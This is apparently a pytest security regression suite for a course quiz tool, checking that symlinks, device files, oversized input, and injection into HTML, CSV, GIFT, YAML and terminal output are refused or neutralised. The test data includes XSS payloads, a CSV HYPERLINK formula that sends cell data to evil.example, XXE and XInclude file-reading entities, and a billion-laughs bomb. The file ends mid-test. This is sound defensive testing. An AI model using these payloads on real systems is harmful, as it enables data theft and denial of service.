"""Hostile input hurts no one (SECURITY.md): each finding of the probe of 2026-11-30, as an
attack that must be refused or neutralised. The commands run as real subprocesses under a
memory limit and a time limit, as in the malformed corpus (test_malformed_corpus.py)."""
from __future__ import annotations

import os
import re
import resource
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from test_book import course  # noqa: F401  (the fixture: a copy of the course to attack)

ROOT = Path(__file__).resolve().parents[1]
QUIZ = str(Path(sys.executable).with_name("quiz"))
MEMORY_LIMIT = 1024 * 2**20
TIME_LIMIT = 60


@dataclass
class Run:
    status: int
    stdout: str
    stderr: str

    @property
    def both(self) -> str:
        return self.stdout + self.stderr


def _limits():
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def quiz(*args, cwd: Path, stdin: str | None = None, env: dict | None = None, timeout: float = TIME_LIMIT) -> Run:
    """The installed `quiz`, in a child with a memory limit; killed after `timeout` seconds."""
    full_env = {**os.environ, "QUIZ_COURSE_ROOT": str(ROOT), "COLUMNS": "200", **(env or {})}
    proc = subprocess.run([QUIZ, *map(str, args)], cwd=cwd, env=full_env, input=stdin, capture_output=True,
                          text=True, errors="replace", timeout=timeout, preexec_fn=_limits)
    return Run(proc.returncode, proc.stdout, proc.stderr)


def refused(run: Run, fragment: str = "") -> None:
    """Exit status 2 with one clear message, never a traceback."""
    assert "Traceback" not in run.both, run.both[-3000:]
    assert run.status == 2, f"exit {run.status}: {run.both[-3000:]}"
    assert fragment in run.both, run.both[-3000:]




# -- 1. the book build writes only inside book/ and never follows a symlink ------------------

def test_cleaning_a_symlinked_sources_dir_deletes_nothing_outside(course, tmp_path):
    from quiz.book.build import assemble

    outside = tmp_path / "user-files"
    outside.mkdir()
    (outside / "thesis.md").write_text("years of work")
    (course / "book" / "sources").symlink_to(outside, target_is_directory=True)
    assemble()
    assert (outside / "thesis.md").read_text() == "years of work"
    assert [p.name for p in outside.iterdir()] == ["thesis.md"]
    assert not (course / "book" / "sources").is_symlink() and (course / "book" / "sources" / "index.md").is_file()


@pytest.mark.parametrize("rel", ["generated/glossary.md", "lessons/lawfare-01.ipynb"])
def test_a_symlinked_generated_file_is_replaced_not_its_target(course, tmp_path, rel):
    from quiz.book.build import assemble

    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    link = course / "book" / rel
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)
    assemble()
    assert target.read_text() == "keep me"
    assert not link.is_symlink() and link.stat().st_size > 100


def test_clean_removes_a_symlink_not_what_it_points_to(course, tmp_path):
    from quiz.book.build import clean_book

    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "keep.txt").write_text("x")
    (course / "book" / "_build").symlink_to(outside, target_is_directory=True)
    clean_book(course / "book")
    assert (outside / "keep.txt").exists() and not (course / "book" / "_build").exists()


def test_a_course_file_linking_outside_the_course_stops_the_build(course, tmp_path):
    from quiz.book.build import BookError, build

    secret = tmp_path / "secret.md"
    secret.write_text("# Secret\n\nthe root password\n")
    (course / "book" / "extra.md").symlink_to(secret)
    with pytest.raises(BookError) as caught:
        build()
    assert "extra.md" in caught.value.message and "outside the course" in caught.value.message


# -- 3. lesson fields never reach the page as HTML or markup ----------------------------------

PAYLOAD = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def _hostile_lesson(course: Path) -> None:
    import yaml

    path = course / "lessons" / "lawfare-01.md"
    text = path.read_text(encoding="utf-8")
    _, front, body = text.split("---\n", 2)
    data = yaml.safe_load(front)
    data["title"] = f"Title {PAYLOAD}"
    data["objectives"][0]["text"] = f"Objective {PAYLOAD} {{download}}`x </etc/passwd>`"
    data["key_terms"][0]["term"] = f"Term <script>alert(2)</script>"
    data["key_terms"][1]["definition"] = f"Definition {PAYLOAD}"
    path.write_text("---\n" + yaml.safe_dump(data, sort_keys=False, allow_unicode=True) + "---\n" + body,
                    encoding="utf-8")


def test_lesson_fields_are_escaped_in_the_generated_pages(course):
    import nbformat

    from quiz.book.build import assemble

    _hostile_lesson(course)
    assemble()
    nb = nbformat.read(course / "book" / "lessons" / "lawfare-01.ipynb", as_version=4)
    markdown = "\n".join(c.source for c in nb.cells if c.cell_type == "markdown")
    glossary = (course / "book" / "generated" / "glossary.md").read_text(encoding="utf-8")
    for text in (markdown, glossary):
        unescaped = re.findall(r"(?<!\\)(?:<script|<img|\{download)", text)
        assert not unescaped, unescaped
    assert "Objective \\<script\\>" in markdown and "Definition \\<script\\>" in glossary


def test_the_theme_prints_the_page_title_escaped():
    from quiz.book.sphinx_config import escape_titles

    context = {"pagetitle": f"Title {PAYLOAD}", "root_title": "China & tech"}
    escape_titles(None, "lessons/x", "page.html", context, None)
    assert context["pagetitle"] == "Title &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
    assert context["root_title"] == "China &amp; tech"


# -- 4. files are read as regular files, with a size cap, and not through links out of the course

def _course_env(course: Path) -> dict:
    return {"QUIZ_COURSE_ROOT": str(course)}


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_bank_linked_to_a_device_is_refused_at_once(course, device):
    (course / "quizzes" / "zero.yaml").symlink_to(device)
    for args in (["validate"], ["validate", "quizzes/zero.yaml"], ["list"]):
        run = quiz(*args, cwd=course, env=_course_env(course), timeout=30)
        assert "Traceback" not in run.both and run.status in ((0, 1, 2) if args == ["list"] else (1, 2)), run.both
        assert "zero.yaml" in run.both and "not a regular file" in run.both, run.both


def test_a_fifo_is_refused_not_waited_on(course):
    os.mkfifo(course / "quizzes" / "pipe.yaml")
    for args in (["validate"], ["list"], ["validate", "quizzes/pipe.yaml"]):
        run = quiz(*args, cwd=course, env=_course_env(course), timeout=30)
        assert "Traceback" not in run.both and run.status in ((0, 1, 2) if args == ["list"] else (1, 2)), run.both
        assert "pipe.yaml" in run.both and "not a regular file" in run.both, run.both


def test_answers_and_responses_from_dev_zero_are_refused(course):
    run = quiz("take", "quizzes/lawfare-01.yaml", "--answers", "/dev/zero", "--db", course / "a.db",
               cwd=course, env=_course_env(course), timeout=30)
    refused(run, "not a regular file")
    out = course / "sheets"
    assert quiz("generate", "quizzes/lawfare-01.yaml", "-o", out, cwd=course, env=_course_env(course)).status == 0
    run = quiz("grade", out, "/dev/zero", cwd=course, env=_course_env(course), timeout=30)
    refused(run, "not a regular file")


def test_a_bank_linked_outside_the_course_is_not_read(course, tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$saltsalt$hashhashhash:19000:0:99999:7:::\n")
    (course / "quizzes" / "shadow.yaml").symlink_to(secret)
    run = quiz("validate", cwd=course, env=_course_env(course), timeout=30)
    assert "Traceback" not in run.both and run.status in (1, 2), run.both
    assert "hashhash" not in run.both and "outside the course" in run.both, run.both


def test_a_symlink_loop_in_the_banks_is_a_clear_problem(course):
    (course / "quizzes" / "loop.yaml").symlink_to(course / "quizzes" / "loop.yaml")
    run = quiz("validate", cwd=course, env=_course_env(course), timeout=30)
    assert "Traceback" not in run.both and run.status in (1, 2), run.both
    assert "loop.yaml" in run.both, run.both


# -- 5. no formula reaches the gradebook CSV ---------------------------------------------------

def _sheets(course: Path) -> Path:
    out = course / "sheets"
    if not out.exists():
        run = quiz("generate", "quizzes/lawfare-01.yaml", "-o", out, cwd=course, env=_course_env(course))
        assert run.status == 0, run.both
    return out


def _responses_csv(course: Path, rows: list[tuple[str, str]]) -> Path:
    import csv
    import io

    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["student", "student_id", "1"])
    for name, ident in rows:
        w.writerow([name, ident, "A"])
    path = course / "responses.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", " =1+2"]


def test_gradebook_cells_never_start_a_formula(course):
    import csv

    rows = [(f, f) for f in FORMULAS] + [("Ann", "ann@example.edu"), ("Bob", "b@d=cmd|calc")]
    responses = _responses_csv(course, rows)
    book = course / "grades.csv"
    run = quiz("grade", _sheets(course), responses, "--csv", book, cwd=course, env=_course_env(course))
    assert "Traceback" not in run.both, run.both
    cells = list(csv.reader(book.read_text(encoding="utf-8").splitlines()))
    for row in cells[1:]:
        for cell in row[:4]:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")), row
    by_name = {row[0]: row for row in cells[1:]}
    assert by_name["Ann"][3] == "ann@example.edu"
    assert by_name["Bob"][3] == "" and by_name["Bob"][2] == "b@d=cmd|calc"  # not an address: stays an id
    assert "'=HYPERLINK(" in by_name["'=HYPERLINK(\"https://evil.example/?\"&A2,\"click\")"][0]


# -- 6. Rich markup in data is shown as written ------------------------------------------------

MARKUP = "[/] [link=https://evil.example]click[/link] [bold red]"


def _edit_bank(course: Path, **replacements: str) -> Path:
    path = course / "quizzes" / "lawfare-01.yaml"
    text = path.read_text(encoding="utf-8")
    for old, new in replacements.items():
        assert old in text, old
        text = text.replace(old, new)
    path.write_text(text, encoding="utf-8")
    return path


def _answers(course: Path) -> Path:
    path = course / "answers.yaml"
    path.write_text("lawfare-01-q01: A\n", encoding="utf-8")
    return path


def test_markup_in_bank_text_does_not_crash_take_or_stats(course):
    _edit_bank(course, **{'title: "Geoeconomics: Technology and Cybersecurity"': f'title: "{MARKUP}"',
                          '{left: "Making"': f'{{left: "{MARKUP}Making"'})
    db = course / "attempts.db"
    env = _course_env(course)
    run = quiz("take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", db, "-n", "10", "--seed", "1",
               cwd=course, env=env)
    assert run.status == 0 and "Traceback" not in run.both, run.both[-3000:]
    assert "[/]" in run.stdout and "[link=https://evil.example]" in run.stdout
    run = quiz("stats", "--db", db, cwd=course, env=env)
    assert run.status == 0 and "Traceback" not in run.both, run.both[-3000:]
    assert "[/]" in run.stdout


def test_markup_in_a_student_name_does_not_crash_grading(course):
    responses = _responses_csv(course, [(MARKUP, "s1"), ("Ann", "s2")])
    run = quiz("grade", _sheets(course), responses, cwd=course, env=_course_env(course))
    assert run.status in (0, 1) and "Traceback" not in run.both, run.both[-3000:]  # 1: the answers are not all valid
    assert "[link=https://evil.example]" in run.stdout and "Ann" in run.stdout


# -- 7. export injection --------------------------------------------------------------------

GIFT_INJECTION = "\\n::injected::Pwned?{=yes ~no}\\n"  # a YAML escape: a real newline in the value


def test_a_newline_injects_no_question_into_gift(course):
    from quiz.importers.gift import parse_gift

    _edit_bank(course, **{'title: "Geoeconomics: Technology and Cybersecurity"': f'title: "Geo{GIFT_INJECTION}"',
                          'unit: "million"': f'unit: "million{GIFT_INJECTION}"'})
    env = _course_env(course)
    for extra in ([], ["--title", "T\n::injected::Pwned?{=yes ~no}\n"], ["--title", "T\r::injected::Pwned?{=yes}\u2028"]):
        out = course / "out.gift"
        run = quiz("export", "quizzes/lawfare-01.yaml", "-f", "gift", "-o", out, "--force", *extra, cwd=course, env=env)
        assert run.status in (0, 1) and "Traceback" not in run.both, run.both
        text = out.read_text(encoding="utf-8")
        raws, _ = parse_gift(text)
        assert not any(r.title == "injected" or "Pwned" in (r.title or "") for r in raws)
        assert not [line for line in text.replace("\r", "\n").split("\n") if line.startswith("::injected")]


HTML_PAYLOAD = '<img src=x onerror=alert(1)>'


def test_sheets_keys_and_reports_escape_html_from_bank_text(course):
    _edit_bank(course, **{"Which of these is NOT one": f"{HTML_PAYLOAD} Which of these is NOT one",
                          'text: "Regulating"': f'text: "Regulating {HTML_PAYLOAD}"',
                          'title: "Geoeconomics: Technology and Cybersecurity"': f'title: "Geo {HTML_PAYLOAD}"'})
    env = _course_env(course)
    out = _sheets(course)
    responses = _responses_csv(course, [("Ann", "s1"), ("Bob", "s2")])
    report = course / "report.md"
    run = quiz("grade", out, responses, "--report", report, cwd=course, env=env)
    assert "Traceback" not in run.both, run.both
    for md in [*out.glob("*.md"), report]:
        text = md.read_text(encoding="utf-8")
        assert not re.search(r"(?<!\\)<img", text), (md.name, text[:2000])


# -- 8. control characters reach neither the terminal nor the XML ------------------------------

CONTROL = "\\e[2J\\e]0;owned\\a\\b\\0"  # YAML escapes: ESC (clear screen, window title), BEL, BS, NUL
RAW_CONTROL = re.compile(r"[\x00\x07\x08\x1b]")


def test_control_characters_in_bank_text_never_reach_the_terminal(course):
    _edit_bank(course, **{"Which of these is NOT one": f"{CONTROL}Which of these is NOT one",
                          'text: "Regulating"': f'text: "Regulating{CONTROL}"'})
    env = _course_env(course)
    run = quiz("take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", course / "a.db", "-n", "10",
               "--seed", "1", cwd=course, env=env)
    assert run.status == 0 and "Traceback" not in run.both, run.both[-2000:]
    assert not RAW_CONTROL.search(run.both), repr(run.both[:3000])
    _edit_bank(course, **{"objective: lawfare-01-lo1\n    difficulty: 2\n  - id: lawfare-01-q07":
                          f'objective: "lo9{CONTROL}"\n    difficulty: 2\n  - id: lawfare-01-q07'})
    run = quiz("validate", "quizzes/lawfare-01.yaml", cwd=course, env=env)
    assert run.status == 1 and "lo9" in run.both, run.both
    assert not RAW_CONTROL.search(run.both), repr(run.both)


@pytest.mark.parametrize("fmt", ["qti", "moodle", "anki", "jupyterquiz", "html"])
def test_control_characters_do_not_crash_xml_exports(course, fmt):
    from lxml import etree

    _edit_bank(course, **{"Which of these is NOT one": f"{CONTROL}Which of these is NOT one",
                          'title: "Geoeconomics: Technology and Cybersecurity"': f'title: "Geo{CONTROL}"'})
    out = course / f"out.{fmt}"
    run = quiz("export", "quizzes/lawfare-01.yaml", "-f", fmt, "-o", out, "--title", "T\x1b[2J\x07",
               cwd=course, env=_course_env(course))
    assert run.status in (0, 1) and "Traceback" not in run.both, run.both[-2000:]
    if fmt == "moodle":
        etree.fromstring(out.read_bytes())  # well-formed


# -- 9. no traceback, whatever the input --------------------------------------------------------

def no_traceback(run: Run, statuses=(1, 2)) -> None:
    assert "Traceback" not in run.both, run.both[-3000:]
    assert run.status in statuses, f"exit {run.status}: {run.both[-3000:]}"


@pytest.mark.parametrize("field", ["answer: 802", "tolerance: 0"])
def test_a_400_digit_number_in_a_bank_is_a_problem(course, field):
    name = field.split(":")[0]
    _edit_bank(course, **{f"    {field}\n": f"    {name}: 8{'0' * 400}\n"})
    run = quiz("validate", "quizzes/lawfare-01.yaml", cwd=course, env=_course_env(course))
    no_traceback(run)
    assert "finite number" in run.both or "too large" in run.both, run.both


def test_a_huge_numeric_response_is_malformed_not_a_crash(course):
    import yaml

    out = _sheets(course)
    sheet = yaml.safe_load((out / "sheet-v1.yaml").read_text(encoding="utf-8"))
    for q in sheet["questions"]:
        q["answer"] = int("1" + "0" * 400) if q["type"] == "numeric" else None
    sheet["student"] = "Ann"
    (course / "ann.yaml").write_text(yaml.safe_dump(sheet, allow_unicode=True), encoding="utf-8")
    run = quiz("grade", out, course / "ann.yaml", cwd=course, env=_course_env(course))
    no_traceback(run, (1,))
    assert "Ann" in run.both


def test_a_cloze_with_a_thousand_blanks(course):
    import yaml

    path = course / "quizzes" / "lawfare-01.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    cloze = next(q for q in data["questions"] if q["type"] == "cloze")
    cloze["prompt"] = " ".join("word {{a}}" for _ in range(1000))
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    env = _course_env(course)
    runs = [quiz("validate", path, cwd=course, env=env),
            quiz("export", path, "-f", "gift", "-o", course / "x.gift", cwd=course, env=env),
            quiz("generate", path, "-o", course / "gen", cwd=course, env=env),
            quiz("take", path, "--answers", _answers(course), "--db", course / "a.db", "-n", "10",
                 cwd=course, env=env)]
    for run in runs:
        no_traceback(run, (0, 1, 2))


@pytest.mark.parametrize("limit", ["inf", "nan", "1e300"])
def test_a_time_limit_out_of_range_is_refused(course, limit):
    run = quiz("take", "quizzes/lawfare-01.yaml", "--time-limit", limit, "--answers", _answers(course),
               "--db", course / "a.db", cwd=course, env=_course_env(course))
    no_traceback(run, (2,))
    run = quiz("take", "--resume", "--db", course / "a.db", cwd=course, env=_course_env(course))
    assert "Traceback" not in run.both, run.both[-3000:]


def test_a_clock_that_is_not_a_date_is_refused(course):
    env = {**_course_env(course), "QUIZ_NOW": "not-a-date"}
    take = ["take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", course / "a.db"]
    run = quiz(*take, cwd=course, env=env)
    no_traceback(run, (2,))
    assert "QUIZ_NOW" in run.both
    assert quiz(*take, cwd=course, env=_course_env(course)).status == 0
    for args in (["stats", "--db", course / "a.db"], ["review", "--db", course / "a.db", "--answers", _answers(course)]):
        run = quiz(*args, cwd=course, env=env)
        no_traceback(run, (0, 2))


def test_a_malformed_plan_row_does_not_crash_resume_or_stats(course):
    import sqlite3

    env = _course_env(course)
    db = course / "a.db"
    run = quiz("take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", db, cwd=course, env=env)
    assert run.status == 0, run.both
    con = sqlite3.connect(db)
    tables = [r[0] for r in con.execute("select name from sqlite_master where type='table'")]
    for table in tables:
        cols = [r[1] for r in con.execute(f"pragma table_info({table})")]
        for col in cols:
            if col in ("plan", "questions", "response", "order_json", "shown"):
                con.execute(f"update {table} set {col} = '{{not json'")
    con.execute("update attempts set finished_at = NULL") if "attempts" in tables else None
    con.commit()
    con.close()
    for args in (["take", "--resume", "--db", db], ["stats", "--db", db]):
        run = quiz(*args, cwd=course, env=env)
        assert "Traceback" not in run.both, run.both[-3000:]


def test_a_sheet_with_a_non_numeric_number(course):
    import yaml

    out = _sheets(course)
    sheet = yaml.safe_load((out / "sheet-v1.yaml").read_text(encoding="utf-8"))
    sheet["questions"][0]["number"] = "abc"
    sheet["questions"][0].pop("id", None)
    (course / "bad.yaml").write_text(yaml.safe_dump(sheet), encoding="utf-8")
    for args in (["grade", out, course / "bad.yaml"], ["take", course / "bad.yaml", "--answers", _answers(course),
                                                        "--db", course / "a.db"]):
        run = quiz(*args, cwd=course, env=_course_env(course))
        no_traceback(run, (0, 1, 2))


def _fsize_limit(n: int):
    def limit():
        _limits()
        resource.setrlimit(resource.RLIMIT_FSIZE, (n, n))
    return limit


def quiz_small_disk(*args, cwd: Path, env: dict, limit: int = 300) -> Run:
    """`quiz` where no file may grow past `limit` bytes: a full disk, as `ulimit -f` makes it."""
    full_env = {**os.environ, "COLUMNS": "200", **env}
    proc = subprocess.run([QUIZ, *map(str, args)], cwd=cwd, env=full_env, capture_output=True, text=True,
                          errors="replace", timeout=TIME_LIMIT, preexec_fn=_fsize_limit(limit))
    return Run(proc.returncode, proc.stdout, proc.stderr)


def test_failed_writes_are_one_message_and_leave_no_partial_file(course):
    env = _course_env(course)
    out = _sheets(course)
    responses = _responses_csv(course, [(f"Student number {i}", f"s{i}") for i in range(40)])
    book = course / "grades.csv"
    book.write_text("the old gradebook\n")
    report = course / "report.md"
    gen = course / "gen"
    for args, target in ((["grade", out, responses, "--csv", book], book),
                         (["grade", out, responses, "--report", report], report),
                         (["generate", "quizzes/lawfare-01.yaml", "-o", gen], gen),
                         (["export", "quizzes/lawfare-01.yaml", "-f", "moodle", "-o", course / "m.xml"], course / "m.xml")):
        run = quiz_small_disk(*args, cwd=course, env=env)
        no_traceback(run, (2,))
        assert "cannot write" in run.both, run.both
    assert book.read_text() == "the old gradebook\n"
    assert not report.exists() and not (course / "report.png").exists() and not (course / "m.xml").exists()
    assert not [p for p in gen.rglob("*") if p.is_file()] if gen.exists() else True
    leftovers = [p for p in course.rglob(".*.tmp-*")]
    assert not leftovers


def test_writing_into_a_missing_directory_or_a_device(course):
    env = _course_env(course)
    out = _sheets(course)
    responses = _responses_csv(course, [("Ann", "s1")])
    (course / "afile").write_text("x")
    (course / "full.md").symlink_to("/dev/full")  # a report named like Markdown that is the full device
    assert quiz("take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", course / "a.db",
                cwd=course, env=env).status == 0
    for args in (["grade", out, responses, "--csv", course / "afile" / "g.csv"],
                 ["grade", out, responses, "--report", course / "full.md"],
                 ["grade", out, responses, "--report", course / "afile" / "r.md"],
                 ["stats", "--db", course / "a.db", "--plot", course / "afile" / "p.png"],
                 ["stats", "--db", course / "a.db", "--plot", "/dev/full"]):
        run = quiz(*args, cwd=course, env=env)
        no_traceback(run, (2,))
        assert "cannot write" in run.both, run.both
    assert not Path("/dev/full.png").exists() and not (course / "full.png").exists()


def test_stdout_to_a_full_device_is_one_message(course):
    with open("/dev/full", "w") as full:
        proc = subprocess.run([QUIZ, "list"], cwd=course, env={**os.environ, **_course_env(course)},
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=TIME_LIMIT)
    assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr, proc.stderr
    assert proc.returncode == 2 and "cannot write" in proc.stderr, (proc.returncode, proc.stderr)


# -- 10. bounded work ---------------------------------------------------------------------------

def _timed(*args, **kwargs) -> tuple[Run, float]:
    import time

    start = time.perf_counter()
    run = quiz(*args, **kwargs)
    return run, time.perf_counter() - start


def test_a_long_wrong_quote_is_reported_quickly(course):
    words = (ROOT / "sources").glob("*.txt")
    text = " ".join(next(iter(sorted(words))).read_text(encoding="utf-8").split())
    wrong = (text[:20_000] + " and then some words the report never printed").replace('"', "'").replace("\\", "")
    _edit_bank(course, **{'passage: {quote: "China boasted 802 million Internet users"}': f'passage: {{quote: "{wrong}"}}'})
    run, seconds = _timed("validate", "quizzes/lawfare-01.yaml", cwd=course, env=_course_env(course))
    assert run.status == 1 and "not found verbatim" in run.both, run.both[-2000:]
    assert seconds < 10, f"{seconds:.1f} s"


def _import(tmp_path: Path, name: str, content: str) -> tuple[Run, float]:
    src = tmp_path / name
    src.write_text(content, encoding="utf-8")
    return _timed("import", src, "-o", tmp_path / "out" / "imported.yaml", cwd=tmp_path)


RUN = 80_000  # characters of white space: 39 s and 23 s with the backtracking expressions


def test_a_long_run_of_spaces_in_a_gift_comment_imports_quickly(tmp_path):
    gift = (f"// q1 · single · objective a-lo1 · difficulty 1 · unit a{' ' * RUN}b\n"
            "::q1::Which one?{=right ~wrong}\n")
    run, seconds = _import(tmp_path, "spaces.gift", gift)
    assert "Traceback" not in run.both and seconds < 10, (seconds, run.both[-2000:])


def test_a_long_run_of_spaces_in_imported_html_imports_quickly(tmp_path):
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n<quiz><question type="truefalse"><name><text>q1</text></name>'
           f'<questiontext format="html"><text><![CDATA[<p>Is it{" " * RUN}true?</p><p>{" " * RUN}x</p>]]></text>'
           '</questiontext><answer fraction="100"><text>true</text></answer>'
           '<answer fraction="0"><text>false</text></answer></question></quiz>\n')
    run, seconds = _import(tmp_path, "spaces.xml", xml)
    assert "Traceback" not in run.both and seconds < 10, (seconds, run.both[-2000:])


def test_twenty_thousand_gift_answers_are_deduplicated_in_linear_time(tmp_path):
    answers = " ".join(f"=answer{i}" for i in range(20_000))
    run, seconds = _import(tmp_path, "many.gift", f"::q1::Name one?{{{answers}}}\n")
    assert "Traceback" not in run.both and seconds < 5, (seconds, run.both[-2000:])


# -- 11. data handling ---------------------------------------------------------------------------

def test_export_never_replaces_a_course_file_and_asks_before_replacing_others(course):
    env = _course_env(course)
    bank = course / "quizzes" / "lawfare-01.yaml"
    before = bank.read_bytes()
    for force in ([], ["--force"]):
        run = quiz("export", "quizzes/lawfare-01.yaml", "-f", "gift", "-o", bank, *force, cwd=course, env=env)
        no_traceback(run, (2,))
        assert "course file" in run.both, run.both
    assert bank.read_bytes() == before
    other = course / "mine.gift"
    other.write_text("keep")
    run = quiz("export", "quizzes/lawfare-01.yaml", "-f", "gift", "-o", other, cwd=course, env=env)
    no_traceback(run, (2,))
    assert "--force" in run.both and other.read_text() == "keep"
    run = quiz("export", "quizzes/lawfare-01.yaml", "-f", "gift", "-o", other, "--force", cwd=course, env=env)
    assert run.status == 0 and other.read_text() != "keep", run.both


def test_import_never_replaces_a_lesson_or_source(course, tmp_path):
    env = _course_env(course)
    gift = tmp_path / "q.gift"
    gift.write_text("::q1::Which one?{=right ~wrong}\n", encoding="utf-8")
    for target in (course / "lessons" / "lawfare-01.md", course / "sources" / "lawfare.txt"):
        before = target.read_bytes()
        run = quiz("import", gift, "-o", target, "--force", cwd=course, env=env)
        no_traceback(run, (2,))
        assert target.read_bytes() == before


def test_generate_does_not_write_sheets_among_the_banks(course):
    env = _course_env(course)
    for where in ("quizzes", "quizzes/sheets", "lessons", "sources"):
        run = quiz("generate", "quizzes/lawfare-01.yaml", "-o", course / where, cwd=course, env=env)
        no_traceback(run, (2,))
    assert sorted(p.name for p in (course / "quizzes").iterdir()) == ["README.md", "lawfare-01.yaml", "schema.json"]


def test_one_bad_csv_row_refuses_that_row_only(course):
    import csv

    out = _sheets(course)
    responses = course / "responses.csv"
    responses.write_text("student,student_id,1\nAnn,s1,A\nBob,s2,A,extra\n\"Cara\u2028Phantom\",s3,B\n", encoding="utf-8")
    book = course / "grades.csv"
    run = quiz("grade", out, responses, "--csv", book, cwd=course, env=_course_env(course))
    no_traceback(run, (2,))
    assert "Bob" in run.both or ":3" in run.both
    rows = list(csv.reader(book.open(encoding="utf-8", newline="")))
    names = [r[0] for r in rows[1:]]
    assert names == ["Ann", "Cara\u2028Phantom"], names


def test_json_output_is_valid_json(course):
    import json

    out = _sheets(course)
    responses = _responses_csv(course, [("Ann", "s1")])  # one student: correlations are undefined
    run = quiz("grade", out, responses, "--json", cwd=course, env=_course_env(course))
    assert "Traceback" not in run.both
    json.loads(run.stdout, parse_constant=lambda c: pytest.fail(f"{c} in --json output"))


def test_an_import_with_no_questions_is_refused(tmp_path):
    src = tmp_path / "empty.gift"
    src.write_text("// only a comment\n$CATEGORY: $course$/top/x\n", encoding="utf-8")
    run = quiz("import", src, "-o", tmp_path / "empty.yaml", cwd=tmp_path)
    no_traceback(run, (2,))
    assert not (tmp_path / "empty.yaml").exists()


def test_an_import_file_name_with_newlines_injects_no_yaml(tmp_path):
    import yaml

    src = tmp_path / "x\nbank: injected\ntitle: pwned\n#.gift"
    src.write_text("::q1::Which one?{=right ~wrong}\n", encoding="utf-8")
    out = tmp_path / "clean.yaml"
    run = quiz("import", src, "-f", "gift", "-o", out, cwd=tmp_path)
    assert run.status == 0, run.both
    text = out.read_text(encoding="utf-8")
    assert [line for line in text.splitlines() if line.startswith("bank:")] == ["bank: clean"], text[:500]
    assert "title: pwned" not in text.splitlines()
    assert yaml.safe_load(text)["bank"] == "clean"


def test_an_open_gift_range_is_warned_not_silently_zero(tmp_path):
    src = tmp_path / "range.gift"
    src.write_text("::q1::How many?{#1..}\n", encoding="utf-8")
    run = quiz("import", src, "-o", tmp_path / "range.yaml", cwd=tmp_path)
    assert "no readable numeric answer" in run.both, run.both


def test_choices_differing_only_by_a_zero_width_character_are_duplicates(course):
    _edit_bank(course, **{'      - text: "Making"\n': '      - text: "Regu\u200blating"\n'})
    run = quiz("validate", "quizzes/lawfare-01.yaml", cwd=course, env=_course_env(course))
    no_traceback(run, (1,))
    assert "duplicate choice" in run.both, run.both


# -- the probe's safe cases: kept safe ----------------------------------------------------------

SECRET = "the-secret-word-7731"


def _moodle_question(body: str, doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n'
            '<quiz xmlns:xi="http://www.w3.org/2001/XInclude"><question type="truefalse"><name><text>q1</text></name>'
            f'<questiontext format="html"><text>{body}</text></questiontext>'
            '<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>'
            '</question></quiz>\n')


@pytest.mark.parametrize("name,doctype,body", [
    ("external DTD", '<!DOCTYPE quiz SYSTEM "file://{secret}">', "Is it true?"),
    ("external entity", '<!DOCTYPE quiz [<!ENTITY x SYSTEM "file://{secret}">]>', "Is &x; true?"),
    ("parameter entity", '<!DOCTYPE quiz [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>', "Is it true?"),
    ("XInclude", "", 'Is <xi:include href="file://{secret}" parse="text"/> true?'),
    ("billion laughs", "<!DOCTYPE quiz [" + '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{"&a%d;" % (i - 1) * 10}">' for i in range(1, 10)) + "]>", "Is &a9; true?"),
])
def test_moodle_xml_reads_no_other_file_and_expands_nothing(tmp_path, name, doctype, body):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    src = tmp_path / "in.xml"
    src.write_text(_moodle_question(body.format(secret=secret), doctype.format(secret=secret)), encoding="utf-8")
    out = tmp_path / "out.yaml"
    run, seconds = _timed("import", src, "-o", out, cwd=tmp_path, timeout=30)
    assert "Traceback" not in run.both and run.status in (0, 1, 2), run.both
    assert SECRET not in run.both and (not out.exists() or SECRET not in out.read_text(encoding="utf-8"))
    assert "lollollol" not in (out.read_text(encoding="utf-8") if out.exists() else "")
    assert seconds < 10


def test_take_on_a_full_disk_loses_no_acknowledged_answer(course):
    import sqlite3

    env = _course_env(course)
    db = course / "a.db"
    assert quiz("take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", db, cwd=course,
                env=env).status == 0
    size = db.stat().st_size + sum(p.stat().st_size for p in course.glob("a.db-*"))
    run = quiz_small_disk("take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", db,
                          cwd=course, env=env, limit=size + 2048)
    assert "Traceback" not in run.both, run.both[-3000:]
    con = sqlite3.connect(db)
    assert con.execute("pragma integrity_check").fetchone()[0] == "ok"
    assert con.execute("select count(*) from attempts").fetchone()[0] >= 1
    con.close()


def test_the_book_assembler_refuses_unsafe_markup_even_without_validation(course):
    from quiz.book.build import BookError, assemble

    lesson = course / "lessons" / "lawfare-01.md"
    lesson.write_text(lesson.read_text(encoding="utf-8").replace(
